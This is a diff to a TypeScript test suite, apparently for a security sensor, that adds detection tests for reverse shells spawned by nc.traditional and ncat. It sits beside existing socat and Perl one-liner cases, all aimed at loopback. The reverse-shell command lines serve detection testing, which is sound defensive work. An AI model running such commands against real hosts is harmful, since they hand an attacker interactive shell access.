@@ -18,6 +18,7 @@ const PERL =
   'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(PORT,inet_aton("127.0.0.1"))) or die; open(STDIN,"<&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("sh","-i")'
 
 const CONNECTED = 'Shell Connected To The Network'
+const EXECUTES = 'Network Program Executes Commands'
 const BEHIND_PIPE = 'Interactive Shell Behind A Pipe'
 
 /** Shells of this machine, in no container, that whoever listens on loopback has; and what is none of them. */
@@ -68,7 +69,31 @@ describe('reverse shells on a node', needs(sensor, otherwise), () => {
 
   test('by socat, which executes a shell', needs(has('socat'), without('socat')), async () => {
     const port = await run(['socat', 'TCP:127.0.0.1:PORT', 'EXEC:sh'])
-    await node.alert('Network Program Executes Commands', ({ output }) => output.includes(`:${port}`))
+    await node.alert(EXECUTES, ({ output }) => output.includes(`:${port}`))
+  })
+
+  describe('by nc.traditional', needs(has('nc.traditional'), without('nc.traditional')), () => {
+    // It becomes the shell, with the connection as its standard input.
+    test.each([
+      ['with -e', ['127.0.0.1', 'PORT', '-e', '/bin/sh']],
+      ['with -e among others', ['-nve/bin/sh', '127.0.0.1', 'PORT']],
+      ['with -c', ['-c', 'exec sh', '127.0.0.1', 'PORT']],
+    ] as const)('%s', async (_, args) => {
+      const port = await run(['nc.traditional', ...args])
+      await node.alert(EXECUTES, ({ output }) => output.includes(`127.0.0.1 ${port}`))
+      await node.alert(CONNECTED, ({ output }) => output.includes(`->127.0.0.1:${port}`))
+    })
+  })
+
+  describe('by ncat', needs(has('ncat'), without('ncat')), () => {
+    // It stays between the shell and the connection, with a pipe for each.
+    test.each([
+      ['with -e', ['-e', '/bin/sh', '127.0.0.1', 'PORT']],
+      ['with --sh-exec', ['--sh-exec=sh', '127.0.0.1', 'PORT']],
+    ] as const)('%s', async (_, args) => {
+      const port = await run(['ncat', ...args])
+      await node.alert(EXECUTES, ({ output }) => output.includes(`127.0.0.1 ${port}`))
+    })
   })
 
   test('by a named pipe', async () => {
